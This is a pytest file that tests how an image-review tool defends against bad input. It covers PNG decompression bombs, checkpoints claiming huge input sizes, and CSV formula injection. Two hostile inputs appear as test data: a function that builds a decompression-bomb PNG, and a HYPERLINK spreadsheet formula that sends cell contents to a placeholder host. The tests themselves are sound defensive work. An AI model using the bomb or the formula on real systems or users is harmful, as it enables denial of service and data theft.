"""Bad input never stops the work: decompression bombs and absurd checkpoints are refused with
a one-line reason, in a process whose peak memory stays small."""

from __future__ import annotations

import csv
import io
import json
import struct
import subprocess
import sys
import zlib
from datetime import datetime
from pathlib import Path

import pytest
import torch

from models.checkpoints import CheckpointError, load_checkpoint
from models.datasets import DEFAULT_MAX_PIXELS, MAX_PIXELS_ENV, DatasetError, read_rgb_image
from reviewer.report import ExportedFlag, flag_to_json, write_flags_csv

ROOT = Path(__file__).resolve().parents[1]
PEAK_LIMIT_BYTES = 2 * 1024**3


def _chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


def write_png_bomb(path: Path, width: int, height: int) -> Path:
    """A valid 8-bit RGB PNG of zeros: a few hundred KB that decode to width*height*3 bytes."""
    compressor = zlib.compressobj(9)
    row = b"\0" * (1 + 3 * width)
    parts = [compressor.compress(row) for _ in range(height)]
    idat = b"".join(parts) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", idat)
    path.write_bytes(png + _chunk(b"IEND", b""))
    return path


def _peak_of(code: str, env: dict[str, str] | None = None) -> tuple[dict, int]:
    """Run ``code`` in a fresh interpreter; its printed JSON and its peak memory in bytes."""
    wrapper = (
        "import json, resource\n"
        f"{code}\n"
        "result['peak'] = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024\n"
        "print(json.dumps(result))\n"
    )
    run = subprocess.run(
        [sys.executable, "-c", wrapper],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=env,
        check=True,
    )
    result = json.loads(run.stdout.strip().splitlines()[-1])
    return result, int(result.pop("peak"))


def test_a_png_bomb_is_refused_from_its_header_in_little_memory(tmp_path: Path) -> None:
    bomb = write_png_bomb(tmp_path / "bomb.png", 12000, 12000)
    assert bomb.stat().st_size < 1024**2
    code = (
        "from pathlib import Path\n"
        "from models.datasets import DatasetError, read_rgb_image\n"
        "try:\n"
        f"    read_rgb_image(Path({str(bomb)!r}))\n"
        "    result = {'error': None}\n"
        "except DatasetError as error:\n"
        "    result = {'error': str(error)}\n"
    )
    result, peak = _peak_of(code)
    assert result["error"] == (
        f"{bomb}: 12000x12000 is 144 MP, above the limit of 40 MP (set {MAX_PIXELS_ENV} to "
        "raise it)"
    )
    assert peak < PEAK_LIMIT_BYTES


def test_the_pixel_limit_can_be_raised(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    image = write_png_bomb(tmp_path / "wide.png", 100, 50)
    monkeypatch.setenv(MAX_PIXELS_ENV, "4000")
    with pytest.raises(DatasetError, match=r"is 0\.005 MP, above the limit of 0\.004 MP"):
        read_rgb_image(image)
    monkeypatch.setenv(MAX_PIXELS_ENV, "5000")
    assert read_rgb_image(image).shape == (50, 100, 3)
    monkeypatch.delenv(MAX_PIXELS_ENV)
    assert DEFAULT_MAX_PIXELS == 40_000_000


def test_a_checkpoint_claiming_a_huge_input_is_refused(tmp_path: Path) -> None:
    shipped = torch.load(ROOT / "models/checkpoints/segnet-ce.pt", weights_only=True)
    shipped["metadata"]["preprocessing"]["input_size"] = [60000, 60000]
    torch.save(shipped, tmp_path / "huge.pt")
    with pytest.raises(CheckpointError) as refusal:
        load_checkpoint(tmp_path / "huge.pt")
    assert str(refusal.value) == (
        f"{tmp_path / 'huge.pt'}: invalid checkpoint metadata (input size must be 1..4096 per "
        "side, got 60000x60000)"
    )


def _flag(**text: str) -> ExportedFlag:
    when = datetime(2026, 1, 2, 3, 4, 5)
    values = dict(
        flag_id=1, image_id=2, image_key="val/a", image_path="a.png", dataset_id=3,
        dataset="d", split="val", target="model_a", severity="major", category="other",
        status="open", note="", region=None, reviewer="ann", created_at=when, updated_at=when,
        model_a_id=4, model_a="ce", model_a_hash="h", model_b_id=5, model_b="ial",
        model_b_hash="g", scores_a={"miou": -0.5}, scores_b=None, critical_pixels=None,
        scores_source=None, scores_problem=None, history=(),
    )  # fmt: skip
    return ExportedFlag(**{**values, **text})


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_would_be_formulas_are_text(start: str) -> None:
    formula = f'{start}HYPERLINK("http://x.invalid/?"&A1,"open")'
    handle = io.StringIO(newline="")
    write_flags_csv(handle, [_flag(reviewer=formula, note=f"{start}1+2", image_key="ok")])
    handle.seek(0)
    (row,) = csv.DictReader(handle)
    assert row["reviewer"] == f"'{formula}"
    assert row["note"] == f"'{start}1+2"
    assert row["image_key"] == "ok"
    assert row["a_miou"] == "-0.5", "numbers are written as numbers"
    assert flag_to_json(_flag(reviewer=formula))["reviewer"] == formula, "JSON keeps raw text"
